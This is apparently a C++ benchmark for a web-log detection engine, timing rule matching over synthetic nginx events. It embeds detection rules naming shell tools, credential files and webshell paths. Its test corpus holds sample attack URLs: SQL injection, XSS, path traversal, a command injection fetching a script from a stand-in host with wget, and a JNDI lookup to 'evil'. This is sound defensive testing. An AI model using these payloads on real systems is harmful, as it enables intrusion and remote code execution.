// Rule matching alone (no parsing): 10 realistic web rules against pre-built nginx access
// events, one core. Issue 8 needs 500,000 lines/s for parse + match; the matching share is
// targeted at >= 1,000,000 events/s. The reference matcher (each rule tested one after the
// other, no Hyperscan) runs beside it as the naive peer.
#include <benchmark/benchmark.h>
#include <fmt/format.h>

#include <random>

#include "core/clock.h"
#include "rse/detect/detector.h"
#include "rse/detect/matcher.h"
#include "rse/detect/test_events.h"

namespace {

using namespace mamori::rse::detect;
using F = mamori::rse::ingest::Field;

constexpr const char* kRules = R"(title: SQL injection
id: b-sqli
logsource: {category: webserver}
detection:
  union_select:
    url.original|re: '(?i)union(\s|\+|%20|/\*.*?\*/)+(all(\s|\+|%20)+)?select'
  functions:
    url.original|contains: [sleep(, sleep%28, benchmark(, information_schema, load_file(, into+outfile, waitfor+delay]
  condition: 1 of them
---
title: XSS
id: b-xss
logsource: {category: webserver}
detection:
  tags:
    url.original|contains: [<script, '%3cscript', <svg, '%3csvg', 'javascript:', document.cookie]
  handlers:
    url.original|re: '(?i)(%20|\+|\s|%22|"|/)on(error|load|mouseover)(\s|%20)*(=|%3d)'
  condition: tags or handlers
---
title: Path traversal
id: b-traversal
logsource: {category: webserver}
detection:
  sel:
    url.original|contains: [../, ..%2f, '%2e%2e/', '%2e%2e%2f', '%252e%252e', /etc/passwd, /windows/win.ini]
  condition: sel
---
title: Command injection
id: b-cmdi
logsource: {category: webserver}
detection:
  shell:
    url.original|re: '(?i)(;|\||%3b|%7c|`|\$\(|%24%28)(\s|\+|%20)*(wget|curl|bash|sh|nc|id|uname|busybox)(\s|\+|%20|;|$)'
  tools:
    url.original|contains: [/bin/sh, cmd.exe, powershell, '${jndi:', '%24%7bjndi']
  condition: 1 of them
---
title: Probing
id: b-probe
logsource: {category: webserver}
detection:
  path:
    url.original|contains: [/wp-login.php, /xmlrpc.php, /.env, /.git/, /phpmyadmin, /cgi-bin/, /vendor/phpunit, /actuator/, /boaform, /hnap1]
  nf:
    http.response.status_code: [403, 404]
  condition: path and nf | count() by source.ip > 4
  timeframe: 10m
---
title: Scanner user agents
id: b-scanner-ua
logsource: {category: webserver}
detection:
  ua:
    user_agent.original|contains: [sqlmap, nikto, nmap, masscan, zgrab, nuclei, wpscan, dirbuster, gobuster, acunetix]
  condition: ua
---
title: Auth failures
id: b-401
logsource: {category: webserver}
detection:
  sel:
    http.response.status_code: 401
  condition: sel | count() by source.ip > 10
  timeframe: 5m
---
title: Unusual methods
id: b-methods
logsource: {category: webserver}
detection:
  sel:
    http.request.method: [PUT, DELETE, TRACE, TRACK, CONNECT, PROPFIND]
  filter:
    url.original|startswith: /api/
  condition: sel and not filter
---
title: Server errors burst
id: b-5xx
logsource: {category: webserver}
detection:
  sel:
    http.response.status_code|startswith: '5'
  condition: sel | count() by source.ip > 20
  timeframe: 1m
---
title: Webshell access
id: b-webshell
logsource: {category: webserver}
detection:
  sel:
    url.original|endswith: [/shell.php, /cmd.php, /c99.php, /r57.php, /wso.php]
  post:
    http.request.method: POST
  condition: sel and post
)";

struct Corpus {
  std::vector<TestEvent> events;
};

Corpus& Events() {
  static Corpus c = [] {
    Corpus out;
    std::mt19937 rng(7);
    const std::vector<std::string> benign = {
        "/", "/index.html", "/static/css/site.5f3a9c.css", "/static/js/app.2b81e0.js",
        "/images/products/4711-large.jpg", "/api/v1/cart?session=8c1f9d2e&items=3",
        "/blog/2024/05/how-we-select-union-members", "/search?q=running+shoes&page=2",
        "/favicon.ico", "/robots.txt", "/account/login?next=%2Faccount%2Forders",
        "/products/category/garden-tools?sort=price&order=asc"};
    const std::vector<std::string> attacks = {
        "/item.php?id=1+UNION+ALL+SELECT+1,2,3--", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/download?file=../../../../etc/passwd", "/ping?host=127.0.0.1;wget+http://x/a.sh",
        "/wp-login.php", "/.env", "/?x=${jndi:ldap://evil/a}"};
    const std::vector<std::string> agents = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.5.0", "sqlmap/1.7.2#stable (https://sqlmap.org)"};
    const std::vector<std::string> statuses = {"200", "200", "200", "304", "404", "301", "500"};
    for (int i = 0; i < 4096; ++i) {
      TestEvent e;
      bool attack = rng() % 50 == 0;  // 2% attacks
      std::string url = attack ? attacks[rng() % attacks.size()] : benign[rng() % benign.size()];
      std::string ip = fmt::format("198.51.{}.{}", rng() % 4, rng() % 250);
      e.Set(F::kEventDataset, "nginx.access")
          .Set(F::kEventCategory, "web")
          .Set(F::kEventAction, "request")
          .Set(F::kSourceIp, ip)
          .Set(F::kHttpRequestMethod, rng() % 10 == 0 ? "POST" : "GET")
          .Set(F::kUrlOriginal, url)
          .Set(F::kHttpVersion, "1.1")
          .Set(F::kHttpResponseStatusCode, statuses[rng() % statuses.size()])
          .Set(F::kHttpResponseBodyBytes, std::to_string(rng() % 50000))
          .Set(F::kUserAgentOriginal, agents[rng() % (attack ? agents.size() : agents.size() - 1)])
          .Time((1'700'000'000LL + i) * 1'000'000);
      out.events.push_back(std::move(e));
    }
    return out;
  }();
  return c;
}

std::shared_ptr<const RuleSet> Rules() {
  static std::shared_ptr<const RuleSet> set = [] {
    LoadResult r = ParseRules(kRules, "bench.yml");
    if (!r.errors.empty() || r.rules.size() != 10) {
      fmt::print(stderr, "bench rules did not load: {}\n",
                 r.errors.empty() ? "count" : r.errors[0].ToString());
      std::abort();
    }
    return *RuleSet::Compile(std::move(r.rules));
  }();
  return set;
}

void BM_MatchHyperscan(benchmark::State& state) {
  auto& events = Events().events;
  Matcher m(Rules());
  size_t i = 0, hits = 0;
  for (auto _ : state) {
    hits += m.Match(events[i++ & 4095]).size();
  }
  benchmark::DoNotOptimize(hits);
  state.SetItemsProcessed(state.iterations());
  state.counters["matches_per_event"] = static_cast<double>(hits) / state.iterations();
}
BENCHMARK(BM_MatchHyperscan);

void BM_MatchReference(benchmark::State& state) {
  auto& events = Events().events;
  auto set = Rules();
  size_t i = 0, hits = 0;
  for (auto _ : state) {
    const auto& e = events[i++ & 4095].event();
    for (const auto& rule : set->rules()) hits += ReferenceMatch(rule, e, nullptr);
  }
  benchmark::DoNotOptimize(hits);
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_MatchReference);

void BM_MatchAndDetect(benchmark::State& state) {
  auto& events = Events().events;
  mamori::FakeClock clock;
  Matcher m(Rules());
  Detector d(Rules(), clock);
  std::vector<Detection> out;
  size_t i = 0;
  for (auto _ : state) {
    const auto& e = events[i++ & 4095].event();
    d.Process(e, m.Match(e), &out);
    if (out.size() > 1024) out.clear();
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_MatchAndDetect);

}  // namespace

BENCHMARK_MAIN();
